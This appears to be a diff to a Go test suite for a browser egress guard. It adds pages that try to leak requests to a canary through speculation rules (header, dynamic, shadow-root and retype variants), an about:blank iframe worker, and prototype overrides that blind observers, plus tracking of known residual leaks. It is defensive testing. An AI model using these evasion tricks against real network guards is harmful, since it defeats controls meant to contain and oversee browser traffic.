@@ -13,6 +13,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -166,6 +167,37 @@ const a=document.createElement("a");a.href="/payload?tag=` + tag + `-link";a.tar
 		page(`<script type=speculationrules>{"prerender":[{"source":"list","urls":["{{C}}/r11-specrules-prerender-only"]}]}</script><script>setTimeout(done,3000)</script>`)
 	case "user-sw-use": // the user's own page asks its SW to fetch the user's (out of scope) site
 		page(`<script>navigator.serviceWorker.onmessage=m=>document.body.append(" ["+m.data+"] ");navigator.serviceWorker.ready.then(r=>{r.active.postMessage("{{USER}}/user-sw-fetch");document.body.append("posted")})</script>`)
+	case "specrules-rules.json": // rules named by a Speculation-Rules header
+		w.Header().Set("Content-Type", "application/speculationrules+json")
+		fmt.Fprint(w, s.expand(`{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-header-prefetch"]}],"prerender":[{"source":"list","urls":["{{C}}/r11-specrules-header-prerender"]}]}`))
+	case "specrules-header":
+		w.Header().Set("Speculation-Rules", `"/specrules-rules.json"`)
+		page(`<script>setTimeout(done,3000)</script>`)
+	case "specrules-dyn":
+		page(`<script>const s=document.createElement("script");s.type="speculationrules";
+s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/r11-specrules-dyn-prefetch"]}],prerender:[{source:"list",urls:["{{C}}/r11-specrules-dyn-prerender"]}]});
+document.head.append(s);setTimeout(done,3000)</script>`)
+	case "specrules-shadow":
+		page(`<div id=h></div><script>const r=document.getElementById("h").attachShadow({mode:"closed"});const s=document.createElement("script");s.type="speculationrules";
+s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/r11-specrules-shadow-prefetch"]}],prerender:[{source:"list",urls:["{{C}}/r11-specrules-shadow-prerender"]}]});
+r.append(s);setTimeout(done,3000)</script>`)
+	case "specrules-dsd":
+		page(`<div><template shadowrootmode=open><script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-dsd-prefetch"]}],"prerender":[{"source":"list","urls":["{{C}}/r11-specrules-dsd-prerender"]}]}</script></template></div><script>setTimeout(done,3000)</script>`)
+	case "specrules-dsd-closed":
+		page(`<div><template shadowrootmode=closed><script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-dsd-closed-prefetch"]}]}</script></template></div><script>setTimeout(done,3000)</script>`)
+	case "specrules-shadow-nested":
+		page(`<div id=h></div><script>const r=document.getElementById("h").attachShadow({mode:"closed"});r.innerHTML="<div id=i></div>";const r2=r.getElementById("i").attachShadow({mode:"open"});
+NodeList.prototype.item=()=>null;Element.prototype.remove=()=>{};
+const s=document.createElement("script");s.type="speculationrules";
+s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/r11-specrules-shadow-nested-prefetch"]}]});
+r2.append(s);setTimeout(done,3000)</script>`)
+	case "specrules-retype":
+		page(`<script id=r type=text/plain>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-retype-prefetch"]}]}</script><script>const o=document.getElementById("r");const s=document.createElement("script");s.type="text/plain";s.textContent=o.textContent;document.head.append(s);s.type="speculationrules";s.remove();document.head.append(s);setTimeout(done,3000)</script>`)
+	case "dw-aboutblank":
+		page(`<script>const f=document.createElement("iframe");document.body.append(f);
+try{new f.contentWindow.Worker(URL.createObjectURL(new Blob([` + "`" + payloadJS("dw-aboutblank") + "`" + `],{type:"text/javascript"})))}catch(e){document.body.append("ERR "+e)}
+try{new f.contentWindow.SharedWorker("/w.js?tag=shw-aboutblank")}catch(e){document.body.append("ERR "+e)}
+setTimeout(done,1500)</script>`)
 	case "specrules":
 		page(`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-prefetch"]}],
 "prerender":[{"source":"list","urls":["{{C}}/r11-specrules-prerender","/payload?tag=specrules-prerender-inscope"]}]}</script>
@@ -189,6 +221,8 @@ type r11Env struct {
 	site *r11Site
 	port int // the user's Chromium DevTools port
 	udp  *atomic.Int64
+	// known: tags of measured residuals (measure), left out of overall.
+	known []string
 }
 
 // startR11 starts a user's Chromium (extra flags appended), browsergate
@@ -310,6 +344,34 @@ func (e *r11Env) attack(t *testing.T, page, tag string, click bool, grace time.D
 
 const r11Grace = 2 * time.Second
 
+// measure runs an attack whose path is a known residual and reports what
+// the canary saw, without failing.
+func (e *r11Env) measure(t *testing.T, page string) {
+	t.Helper()
+	f := e.f
+	f.call(t, "egress.navigate", map[string]any{"url": e.site.self + "/" + page})
+	f.call(t, "egress.wait_for", map[string]any{"text": "done", "timeout_ms": 5000})
+	time.Sleep(2 * time.Second)
+	t.Logf("RESIDUAL %s: the canary saw %q", page, e.canaryFor(page))
+}
+
+// overall fails the test if the canary saw anything of the review's at
+// all over the run: a request that arrives late, during another case,
+// still went through.
+func (e *r11Env) overall(t *testing.T) {
+	t.Helper()
+	var got []string
+	for _, s := range e.canaryFor("") {
+		if !slices.ContainsFunc(e.known, func(k string) bool { return strings.Contains(s, k) }) {
+			got = append(got, s)
+		}
+	}
+	if len(got) > 0 {
+		t.Errorf("over the whole run the canary saw %q", got)
+	}
+	t.Logf("canary overall: %s", e.f.net)
+}
+
 // TestReview11AttackWorkers: shared workers (blob:, data:, same origin,
 // cross-site frame), a service worker of a cross-site frame, dedicated,
 // nested and blob workers, a worker in a cross-site frame.
@@ -326,10 +388,14 @@ func TestReview11AttackWorkers(t *testing.T) {
 		{"dw-nested", "dw-nested"},
 		{"dw-blob", "dw-blob"},
 		{"dw-xframe", "dw-xframe"},
+		{"dw-aboutblank", "dw-aboutblank"},
 	} {
 		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, false, r11Grace) })
 	}
-	t.Logf("canary overall: %s", e.f.net)
+	// A last navigation ends the last case's page and its workers.
+	e.f.call(t, "egress.navigate", map[string]any{"url": e.site.self + "/payload?tag=none"})
+	time.Sleep(time.Second)
+	e.overall(t)
 }
 
 // TestReview11AttackSockets: WebSockets from frames and in other forms.
@@ -346,7 +412,7 @@ func TestReview11AttackSockets(t *testing.T) {
 	} {
 		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, false, r11Grace) })
 	}
-	t.Logf("canary overall: %s", e.f.net)
+	e.overall(t)
 }
 
 // TestReview11AttackPopups: popups by every opener the guard may not
@@ -365,7 +431,7 @@ func TestReview11AttackPopups(t *testing.T) {
 	} {
 		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, true, r11Grace) })
 	}
-	t.Logf("canary overall: %s", e.f.net)
+	e.overall(t)
 }
 
 // TestReview11AttackSpeculation: speculation rules and rel=prerender.
@@ -373,12 +439,22 @@ func TestReview11AttackSpeculation(t *testing.T) {
 	t.Parallel()
 	e := startR11(t, egressManifest)
 	t.Run("specrules", func(t *testing.T) { e.attack(t, "specrules", "specrules", false, 3*time.Second) })
+	for _, p := range []string{"specrules-header", "specrules-dyn", "specrules-shadow", "specrules-dsd", "specrules-shadow-nested", "specrules-retype"} {
+		t.Run(p, func(t *testing.T) { e.attack(t, p, p, false, 2*time.Second) })
+	}
+	// A known residual, measured and reported, not asserted: rules inside a
+	// closed declarative shadow root (written in the HTML the server sends)
+	// are out of reach of every observer (README, "What it does not
+	// cover").
+	e.measure(t, "specrules-dsd-closed")
+	// The residual's requests are not held against the rest of the run.
+	e.known = append(e.known, "r11-specrules-dsd-closed")
 	t.Run("link-prerender", func(t *testing.T) {
 		if got := e.canaryFor("link-prerender"); len(got) > 0 {
 			t.Errorf("LEAK link-prerender: %q", got)
 		}
 	})
-	t.Logf("canary overall: %s", e.f.net)
+	e.overall(t)
 }
 
 // TestReview11AttackWebTransport: QUIC is not HTTP over TCP; a Chromium as a
@@ -465,7 +541,7 @@ func TestReview11AttackMore(t *testing.T) {
 	} {
 		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, c.click, r11Grace) })
 	}
-	t.Logf("canary overall: %s", e.f.net)
+	e.overall(t)
 }
 
 // TestReview11AttackWebTransportNoQUIC: the same with --disable-quic (as
